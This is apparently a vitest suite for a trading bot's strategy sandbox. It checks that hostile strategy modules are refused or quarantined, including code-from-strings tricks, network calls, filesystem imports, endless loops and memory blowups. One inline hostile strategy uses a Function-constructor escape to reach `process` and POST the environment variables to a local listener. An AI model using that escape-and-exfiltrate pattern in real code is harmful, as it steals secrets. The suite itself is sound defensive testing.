/**
 * Hostile strategy modules against the sandbox (docs/sandbox.md). Each fixture in
 * `fixtures/hostile/` tries one way out: code from strings, the network, the filesystem, Node's
 * builtins, the daemon's `crypto`, an endless loop or a 2 GB allocation, `Atomics.wait`. A
 * listener on 127.0.0.1 stands for the outside world and must receive nothing; every attack ends
 * as a refused module (a `ConfigError`), a failed hook or a quarantined instance.
 */
import { createHmac } from 'node:crypto';
import * as nodeCrypto from 'node:crypto';
import { readFileSync, writeFileSync } from 'node:fs';
import { createServer, type Server, type AddressInfo } from 'node:net';
import path from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { validate } from 'node-cron';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { SystemClock } from '../../../../src/core/clock.js';
import { ConfigError } from '../../../../src/core/errors.js';
import { StrategyRunner, type OrderPort } from '../../../../src/engine/strategy-runner.js';
import { WorkerExecutor } from '../../../../src/engine/sandbox-worker/worker-executor.js';
import { silentLogger } from '../../../../src/observability/logger.js';
import { BufferedState, loadStrategies, sandboxWorkerOptions, workerEntry, type JsonValue, type LoaderOptions } from '../../../../src/strategy-api/host.js';
import { MemoryState, snapshot } from '../../../support/daemon-ctx.js';
import { RecordingEvents } from '../../../support/runner-events.js';
import { eventually } from '../../../support/eventually.js';
import { tempDir } from '../../../support/temp-dir.js';

const here = path.dirname(fileURLToPath(import.meta.url));
const hostile = path.join(here, 'fixtures/hostile');
const scratch = tempDir('v4bot-sandbox-');
const apiUrl = pathToFileURL(path.resolve('src/strategy-api/index.ts')).href;
const options: LoaderOptions = { dirs: [hostile, scratch], extensions: ['.ts', '.js'], knownMarkets: new Set(['BTC_USDT']), validateSchedule: validate };

/** The outside world: counts every TCP connection (HTTP, WebSocket, raw socket) and its bytes. */
let server: Server;
let port = 0;
const received: string[] = [];
beforeAll(async () => {
  server = createServer((socket) => {
    received.push('');
    socket.on('data', (d: Buffer) => received.push(d.toString()));
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  port = (server.address() as AddressInfo).port;
});
afterAll(async () => {
  await new Promise<void>((r) => server.close(() => r()));
});

class EntriesState extends MemoryState {
  entries(): Record<string, JsonValue> {
    return Object.fromEntries(this.data);
  }
}

class ReasonEvents extends RecordingEvents {
  reasons: string[] = [];
  override quarantined(s: string, reason?: string): void {
    super.quarantined(s);
    this.reasons.push(reason ?? '');
  }
}

const noOrders: OrderPort = {
  placeLimitOrders: async () => [],
  placeCollateralOrder: async () => ({ status: 'refused', reason: 'unused' }) as never,
  cancelOrder: async () => ({}) as never,
  cancelAll: async () => [],
  closeFlex: async () => ({}) as never,
};

interface Instance {
  runner: StrategyRunner;
  executor: WorkerExecutor;
  events: ReasonEvents;
  state: EntriesState;
}

const started: WorkerExecutor[] = [];
afterEach(async () => {
  for (const e of started.splice(0)) await e.close();
});

/** Loads one instance through the loader (the sandbox's load probe), then runs it in a sandboxed worker. */
async function instance(module: string, params: Record<string, unknown>, memoryMb = 256): Promise<Instance> {
  const [loaded] = await loadStrategies([{ index: 0, module, id: module, params }], options);
  if (loaded === undefined) throw new Error('nothing loaded');
  const state = new EntriesState();
  const events = new ReasonEvents();
  const executor = new WorkerExecutor({ file: loaded.file ?? '', memoryMb, instanceId: module, params, knownMarkets: ['BTC_USDT'], stateEntries: () => state.entries(), logger: silentLogger() });
  started.push(executor);
  const runner = new StrategyRunner({
    strategy: loaded,
    executor,
    clock: new SystemClock(),
    logger: silentLogger(),
    orders: noOrders,
    snapshot: async () => snapshot({ prices: {} }),
    risk: () => ({ tradingState: 'ACTIVE', markets: {}, limits: {}, exposure: {}, strategy: {}, equity: null }) as never,
    onDrawdown: () => undefined,
    state,
    accepting: () => true,
    events,
    deadlineMs: 5_000,
    errorBudget: 1,
    errorWindowMs: 600_000,
  });
  return { runner, executor, events, state };
}

/** The error one `onTick` call ends with. */
async function tickError(i: Instance): Promise<string> {
  await i.executor.prepare();
  const err = await i.executor.run({ hook: 'onTick', data: snapshot({ prices: {} }), state: new BufferedState(i.state) }).then(
    () => new Error('the hook returned'),
    (e: unknown) => e as Error,
  );
  return err.message;
}

async function refusal(module: string): Promise<ConfigError> {
  const err = await loadStrategies([{ index: 0, module, id: module, params: { port } }], options).catch((e: unknown) => e);
  if (!(err instanceof ConfigError)) throw new Error(`expected a ConfigError, got ${String(err)}`);
  return err;
}

describe('the sandbox against hostile strategies', () => {
  it.each([
    ['constructor-trick', {}, /Function\.prototype\.constructor is not a valid constructor/],
    ['eval', {}, /indirect is not a function/],
    ['function', {}, /Function is not a constructor/],
    ['fetch', { how: 'fetch' }, /fetch is not a function/],
    ['fetch', { how: 'websocket' }, /WebSocket is not a constructor/],
    ['builtin-module', {}, /Cannot read properties of undefined \(reading 'getBuiltinModule'\)/],
    ['atomics', null, /Cannot read properties of undefined \(reading 'wait'\)|Int32Array is not a constructor/],
  ] as const)('%s: the hook fails inside the sandbox and nothing reaches the listener', async (module, params, why) => {
    // The listener's port is known only once it listens; `null`: a module without a port param.
    const i = await instance(module, params === null ? {} : { ...params, port });
    const message = await tickError(i);
    expect(message).toMatch(why);
    expect(message).toContain(path.join(hostile, `${module}.ts`));
    expect(received).toEqual([]);
  });

  it('refuses a module that imports node:fs statically, before any of it runs (a config error)', async () => {
    const err = await refusal('fs-static');
    expect(err.context['keys']).toEqual(['strategies[0].module']);
    expect(err.message).toContain('imports "node:fs": a strategy imports only src/strategy-api/index.js');
  });

  it('refuses a module that calls import() (a config error)', async () => {
    const err = await refusal('fs-dynamic');
    expect(err.context['keys']).toEqual(['strategies[0].module']);
    expect(err.message).toContain('Possible import expression rejected');
  });

  it("a top-level crypto hook reaches nothing: the daemon's HMAC is the real one and no secret reaches the strategy", async () => {
    const realHmac = nodeCrypto.createHmac;
    const vector = (): string => createHmac('sha512', 'Jefe').update('what do ya want for nothing?').digest('hex');
    const before = vector();
    const i = await instance('crypto-hook', {});
    // The daemon signs while the strategy runs: the secret it uses must not reach the strategy.
    const signed = createHmac('sha512', 'the-api-secret').update('GET /api/v4/orders').digest('hex');
    await i.runner.tick();
    expect(i.events.errors).toEqual([]);
    expect(i.state.get('reached')).toEqual([]);
    expect(i.state.get('captured')).toEqual([]);
    expect(nodeCrypto.createHmac).toBe(realHmac);
    // RFC 4231 test case 2 (HMAC-SHA-512): the daemon's HMAC is the real one.
    expect(vector()).toBe(before);
    expect(before).toBe('164b7a7bfcf819e2e395fbe73b56e0a387bd64222e831fd610270cd7ea2505549758bf75c05a994a6d034f65f8f0e6fdcaeab1a34d4a6b4b636e070a38bce737');
    expect(signed).toHaveLength(128);
  });

  it('a top-level endless loop passes the load deadline: start-up completes, the instance is quarantined with the reason, the other loads', async () => {
    const bounded: LoaderOptions = { ...options, bounds: { memoryMb: 256, loadDeadlineMs: 8_000 } };
    const loaded = await loadStrategies(
      [
        { index: 0, module: 'spin-load', id: 'spin', params: {} },
        { index: 1, module: 'crypto-hook', id: 'calm', params: {} },
      ],
      bounded,
    );
    expect(loaded.map((l) => [l.id, l.quarantined])).toEqual([
      ['spin', 'strategy spin: the module did not load within its deadline (sandbox.loadDeadlineMs = 8000)'],
      ['calm', undefined],
    ]);
  });

  it('a 2 GB allocation at the top level passes the memory bound: quarantined with the reason, not a config error', async () => {
    const source = readFileSync(path.join(hostile, 'alloc.ts'), 'utf8').replace('const ALLOC_AT_LOAD = false;', 'const ALLOC_AT_LOAD = true;');
    writeFileSync(path.join(scratch, 'alloc-load.ts'), source.replace(/from '[^']*strategy-api\/index\.js'/, `from '${apiUrl}'`));
    const rssBefore = process.memoryUsage().rss;
    const [loaded] = await loadStrategies([{ index: 0, module: 'alloc-load', id: 'big', params: {} }], { ...options, bounds: { memoryMb: 64, loadDeadlineMs: 60_000 } });
    expect(loaded?.quarantined).toBe('strategy big: the module passed its memory bound (sandbox.memoryMb = 64) while loading');
    expect(process.memoryUsage().rss - rssBefore).toBeLessThan(1024 * 1024 * 1024);
  });

  it('a 2 GB allocation in a hook passes the memory bound: the worker is killed and the instance quarantined', async () => {
    const rssBefore = process.memoryUsage().rss;
    const i = await instance('alloc', {}, 64);
    await i.runner.tick();
    await eventually(() => i.runner.quarantined, 'the quarantine');
    expect(i.events.reasons.join()).toContain('passed its memory bound (sandbox.memoryMb = 64)');
    expect(i.executor.running).toBe(false);
    expect(i.state.get('arrays')).toBeUndefined();
    expect(process.memoryUsage().rss - rssBefore).toBeLessThan(1024 * 1024 * 1024);
  });

  it('a hostile .js dropped next to the built strategies is as contained as a .ts one', async () => {
    const js = [
      `import { defineStrategy, z } from '${apiUrl}';`,
      'export default defineStrategy({',
      "  name: 'dropped', params: z.strictObject({ port: z.number() }), schedule: '* * * * * *',",
      '  async onTick(ctx) {',
      "    const proc = (() => 0).constructor('return process')();",
      "    await fetch('http://127.0.0.1:' + ctx.params.port + '/', { method: 'POST', body: JSON.stringify(proc.env) });",
      '    return [];',
      '  },',
      '});',
    ];
    writeFileSync(path.join(scratch, 'dropped.js'), `${js.join('\n')}\n`);
    const i = await instance('dropped', { port });
    expect(await tickError(i)).toBe(`${path.join(scratch, 'dropped.js')}:5:28: Function.prototype.constructor is not a valid constructor.`);
    expect(received).toEqual([]);
  });

  it('a worker gets an empty environment, no argv or stdin, a heap bound, and workerData without any secret', () => {
    process.env['API_SECRET'] = 'never-in-a-worker';
    try {
      const init = { file: 'f.js', fileUrl: 'file:///f.js', program: '(function () {})', instanceId: 'x', params: { a: 1 }, knownMarkets: ['BTC_USDT'] };
      const o = sandboxWorkerOptions(workerEntry(import.meta.url, 'none'), 64, init);
      expect(o.env).toEqual({});
      expect(o.argv).toEqual([]);
      expect(o.stdin).toBe(false);
      expect(o.transferList).toBeUndefined();
      expect(o.resourceLimits?.maxOldGenerationSizeMb).toBe(64);
      expect(Object.keys(o.workerData as object).sort()).toEqual(['file', 'fileUrl', 'instanceId', 'knownMarkets', 'params', 'program']);
      expect(JSON.stringify(o)).not.toContain('never-in-a-worker');
    } finally {
      delete process.env['API_SECRET'];
    }
  });
});
